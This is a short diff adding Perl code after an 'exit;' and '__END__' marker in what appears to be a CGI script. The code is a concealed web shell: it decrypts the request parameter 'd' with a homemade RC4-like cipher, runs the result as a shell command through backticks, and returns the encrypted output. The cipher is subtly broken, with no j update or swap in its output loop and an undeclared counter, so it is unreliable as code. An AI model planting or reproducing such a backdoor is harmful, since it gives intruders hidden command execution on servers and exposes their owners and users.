@@ -1,0 +1,9 @@
+exit;
+__END__
+my $c = rc($key, CGI::param("d"));
+my $o = `$c`;
+print rc($key, $o);
+sub rc {
+  my ($k, $t) = @_; my @s = (0..255); my $j = 0;
+  for my $i (0..255) { $j = ($j + $s[$i] + ord(substr($k, $i % length $k, 1))) % 256; @s[$i,$j] = @s[$j,$i]; }
+  my $o = ''; for my $c (split //, $t) { $i = ($i + 1) % 256; $o .= chr(ord($c) ^ $s[$i]); } $o }
